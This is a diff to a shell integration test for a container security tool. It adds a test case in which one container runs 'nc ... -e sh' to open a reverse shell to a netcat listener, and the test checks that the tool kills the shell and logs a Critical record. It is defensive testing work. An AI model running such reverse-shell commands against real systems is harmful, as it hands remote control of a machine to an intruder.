@@ -9,7 +9,7 @@
 # one gets no content; opened by its handle too), the account files are
 # pinned immutable (a rename, an unlink, a chmod refused; not in a build
 # step; cleared at stop), an injection syscall kills its caller, so does a
-# write through /proc/PID/mem (after its open). Audit mode
+# write through /proc/PID/mem (after its open), a reverse shell is killed. Audit mode
 # (--protect alone) reports and does nothing.
 . tests/integration/lib.sh
 
@@ -189,6 +189,18 @@ inject tracer ptrace "injection syscall killed" "served in kernel"
 # The same injection without ptrace: a write through /proc/PID/mem. The
 # writer lingers (as the tracer does) so the user-space kill lands.
 inject memw "/proc/PID/mem write" "process memory written through /proc" done mem
+
+# 3b. A reverse shell: nc connects to a listener and execs a shell on the
+#     connection; the listener sends it a command. The shell dies first.
+run_container "$P-lis" "$IMAGE" sh -c '(sleep 2; echo "touch /out/revshell-ran"; sleep 3) | nc -l -p 4444'
+CONTAINERS="$CONTAINERS $P-rev"
+docker run --rm --name "$P-rev" -v "$OUT:/out" "$IMAGE" \
+	nc "$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$P-lis")" 4444 -e sh
+check "reverse shell (nc -e sh): the shell is killed (137)" test $? -eq 137
+check "reverse shell: it never ran the listener's command" never_ran revshell
+a=$(record "shell on a network socket killed" "$P-rev")
+check "reverse shell: a Critical record, the kill done" expect "$a" \
+	'.priority=="Critical" and .palisade_action.outcome=="done"'
 
 # 4. Shells: docker exec and an interactive first process pause the
 #    container; a scripted entry point and a debug container do not.
